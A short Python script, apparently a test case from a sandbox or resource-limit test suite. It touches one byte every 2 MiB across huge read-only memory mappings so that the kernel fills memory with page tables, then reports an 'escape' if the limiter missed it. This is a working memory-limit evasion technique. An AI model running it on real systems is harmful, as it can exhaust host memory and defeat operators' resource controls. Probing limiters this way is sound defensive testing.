# claim: holds memory in page tables: mappings that are only read, one read every 2 MiB
# expect: memory
import ctypes
import mmap
import time

from attack import MIB, T, escaped, say

SPAN = 64 << 30
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000  # no reserve
tables = 0
while tables < 3 * T["memory"]:
    at = libc.mmap(None, SPAN, mmap.PROT_READ, flags, -1, 0)
    if at in (None, ctypes.c_void_p(-1).value):
        break
    libc.madvise(ctypes.c_void_p(at), ctypes.c_size_t(SPAN), 15)  # no huge pages
    for place in range(at, at + SPAN, 2 * MIB):
        ctypes.c_char.from_address(place).value
        tables += 4096
        if tables >= 3 * T["memory"]:
            break
time.sleep(0.5)  # ten looks of a watchdog
say(f"held: {tables // MIB} MiB")
if tables > 1.25 * T["memory"]:
    escaped(f"{tables // MIB} MiB in page tables")
raise SystemExit(1)
